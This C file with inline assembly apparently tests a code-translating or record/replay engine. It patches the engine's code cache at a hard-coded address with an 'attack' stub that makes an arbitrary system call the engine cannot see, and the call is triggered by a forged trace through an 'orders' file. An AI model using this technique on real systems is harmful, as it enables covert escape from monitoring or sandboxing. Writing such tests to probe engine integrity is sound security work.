// Makes one system call behind the engine's back, if the file `orders` says so: it says nothing when this
// is recorded, and a forged trace makes it speak. Without libc, so that there is little translated code.
//
// orders: 1 to act (2: and to go on for ever if the call answers 0; 3: and to write where the answer points
// to), the call's number, its six arguments (-1 is the address of the text that follows).
typedef unsigned long word;
static struct {
    word act, nr, args[6];
    char text[64];
} orders;
static long call(long nr, long a, long b, long c) {
    long result;
    asm volatile("syscall" : "=a"(result) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}
// It is translated as it is, found by its number, and what it became is replaced.
void victim(void);
asm("victim: movabs $0x05ca1ab1e0ddba11, %rax\n"
    ".rept 16\n movabs $0x0102030405060708, %rdx\n .endr\n"
    "ret\n");
// Loads the call from r15, makes it, and ends with 42, or 43 if it failed.
extern const char attack[], attack_end[];
asm("attack:\n"
    "movabs $orders, %r15\n"
    "mov 8(%r15), %rax\n mov 16(%r15), %rdi\n mov 24(%r15), %rsi\n mov 32(%r15), %rdx\n"
    "mov 40(%r15), %r10\n mov 48(%r15), %r8\n mov 56(%r15), %r9\n"
    "syscall\n"
    "test %rax, %rax\n jnz 1f\n cmpq $2, (%r15)\n 0: je 0b\n 1: test %rax, %rax\n"
    "jle 2f\n cmpq $3, (%r15)\n jne 2f\n movb $0x58, (%rax)\n 2:\n"
    "xor %edi, %edi\n test %rax, %rax\n sets %dil\n add $42, %edi\n"
    "mov $231, %eax\n syscall\n ud2\n"
    "attack_end:\n");
void start(void) {
    victim();
    long file = call(2, (long)"orders", 0, 0);
    call(0, file, (long)&orders, sizeof orders);
    if (orders.act) {
        for (int i = 0; i < 6; i++)
            if (orders.args[i] == -1ul) orders.args[i] = (word)orders.text;
        // The code cache of the default window.
        unsigned char *at = (unsigned char *)0x170000000;
        while (*(word *)(at + 2) != 0x05ca1ab1e0ddba11) at++;
        for (const char *from = attack; from < attack_end;) *at++ = *from++;
        victim();
    }
    call(1, 1, (long)"as recorded\n", 12);
    call(231, 0, 0, 0);
}
asm(".globl _start\n_start: and $-16, %rsp\n call start\n");
